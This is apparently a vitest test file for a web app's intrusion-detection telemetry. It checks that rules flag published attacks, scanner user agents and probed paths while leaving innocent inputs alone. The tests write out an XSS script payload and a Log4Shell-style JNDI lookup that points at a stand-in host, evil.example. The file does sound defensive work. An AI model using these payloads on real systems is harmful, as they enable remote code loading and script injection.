import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { findAttempts } from '../../../../src/telemetry/security/attempts.ts';
import { RULES } from '../../../../src/telemetry/security/rules/all.ts';
import { HONEST_AGENTS, HONEST_PATHS, PROBED_PATHS, SCANNERS } from './probes.ts';

const NOTHING = new Headers();
const inQuery = (text: string) =>
  findAttempts({
    path: '/api/activities/search',
    query: `term=${encodeURIComponent(text)}`,
    headers: NOTHING,
  });
const inPath = (path: string) => findAttempts({ path, query: '', headers: NOTHING });
const byAgent = (agent: string) =>
  findAttempts({ path: '/', query: '', headers: new Headers({ 'user-agent': agent }) });

function read(name: string): readonly string[] {
  return readFileSync(new URL(name, import.meta.url), 'utf8')
    .split('\n')
    .filter((line) => line !== '');
}

/** A heading names the categories that the attacks below it may have. */
function attacks(): readonly { readonly text: string; readonly categories: readonly string[] }[] {
  let categories: readonly string[] = [];
  return read('attacks.txt').flatMap((line) => {
    if (!line.startsWith('## ')) return [{ text: line, categories }];
    categories = line.slice(3).split(' ');
    return [];
  });
}

describe('published attacks', () => {
  test('there are at least 200, and each is seen in a query', () => {
    const missed = attacks().filter(({ text }) => inQuery(text).length === 0);
    expect(missed).toEqual([]);
    expect(attacks().length).toBeGreaterThanOrEqual(200);
  });
  test('nine of ten are seen as what they are', () => {
    const other = attacks().filter(
      ({ text, categories }) =>
        !inQuery(text).some(({ rule }) => categories.includes(rule.category)),
    );
    expect(other.length).toBeLessThan(attacks().length / 10);
  });
  test.each(PROBED_PATHS)('path %s', (path) => {
    expect(inPath(path)).not.toEqual([]);
  });
  test.each(SCANNERS)('User-Agent %s', (agent) => {
    expect(byAgent(agent)).not.toEqual([]);
  });
  test('an attack is seen in a name, behind other parameters, in a referer', () => {
    const attack = encodeURIComponent('<script>alert(1)</script>');
    expect(findAttempts({ path: '/', query: `a=1&${attack}=2`, headers: NOTHING })).not.toEqual([]);
    const headers = new Headers({ referer: 'https://x.example/?q=${jndi:ldap://evil.example/a}' });
    expect(findAttempts({ path: '/', query: '', headers }).map(({ part }) => part)).toEqual([
      'header',
    ]);
  });
});

describe('innocent inputs', () => {
  test('there are at least 200, and no rule fits one', () => {
    const fitting = read('innocents.txt').flatMap((text) =>
      inQuery(text).map(({ rule }) => `${rule.id}: ${text}`),
    );
    expect(fitting).toEqual([]);
    expect(read('innocents.txt').length).toBeGreaterThanOrEqual(200);
  });
  test.each(HONEST_PATHS)('path %s', (path) => {
    expect(inPath(path)).toEqual([]);
  });
  test.each(HONEST_AGENTS)('User-Agent %s', (agent) => {
    expect(byAgent(agent)).toEqual([]);
  });
});

describe('rules', () => {
  test('have ids of their own, 25 to 40 of them', () => {
    expect(new Set(RULES.map(({ id }) => id)).size).toBe(RULES.length);
    expect(RULES.length).toBeGreaterThanOrEqual(25);
    expect(RULES.length).toBeLessThanOrEqual(40);
  });
  test('keep no state between texts', () => {
    for (const { patterns } of RULES)
      for (const { flags } of patterns) expect(flags).not.toMatch(/[gy]/);
  });
});
